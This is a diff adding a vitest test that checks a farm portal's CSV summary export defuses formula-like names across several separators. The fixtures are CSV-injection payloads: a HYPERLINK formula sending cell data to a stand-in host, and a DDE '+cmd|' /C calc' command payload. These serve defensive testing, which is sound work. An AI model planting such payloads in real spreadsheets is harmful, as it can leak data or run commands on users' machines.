@@ -1,4 +1,5 @@
 import { computeStats, type Estatisticas, type ResumoResponse } from '@portal/shared';
+import { parse } from 'csv-parse/sync';
 import { expect, it } from 'vitest';
 import { createAccount, type TestAccount } from '../../test/factories.js';
 import { createNucleo, grantAccess } from '../../test/factories/farms.js';
@@ -85,6 +86,21 @@ describeEachDialect('summary (v2/resumo)', (portal) => {
     expect(formula.body.split('\r\n')[1]).toContain(`,"'=HYPERLINK(""x"")",`);
     const nothing = await portal().request<string>('GET', '/api/v2/resumo?inicio=2025-01-01&fim=2025-01-02&tipo=csv', { token: account.token });
     expect(nothing.body).toBe(`${header.replaceAll(';', ',')}\r\n`);
+  });
+
+  it('defuses farm, flock, house, side and box names written like formulas, in every separator, and keeps negative-looking numbers', async () => {
+    const account = await createAccount(portal());
+    const farm = await createNucleo(portal(), account, { nome: '=HYPERLINK("http://x.test/?"&A1;"ver")' });
+    const lote = await createLote(portal(), account, farm, { codigo: "+cmd|' /C calc'!A0" });
+    await createPesagens(portal(), account, { nucleo: farm, lote, rows: [{ peso: 1000, data: '2026-11-03', aviario: '@SUM(1+1)', lado: '-2+3', box: '-1' }] });
+    for (const separador of [';', ',', '\t', '|']) {
+      await portal().request('POST', '/api/updateuser', { token: account.token, body: { separador_csv: separador, reports_language: 'pt' } });
+      const answer = await portal().request<string>('GET', '/api/v2/resumo?inicio=2026-11-01&fim=2026-11-30&tipo=csv', { token: account.token });
+      expect(answer.status, answer.body).toBe(200);
+      const [, line] = parse(answer.body, { delimiter: separador, bom: true }) as string[][];
+      expect(line!.slice(0, 5), separador).toEqual(['\'=HYPERLINK("http://x.test/?"&A1;"ver")', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", '-1']);
+      expect(line!.slice(8, 11), separador).toEqual(['1', '1000,0', '1000,0']);
+    }
   });
 
   it('refuses bad dates, a reversed or too long period and an unknown type with a field code', async () => {
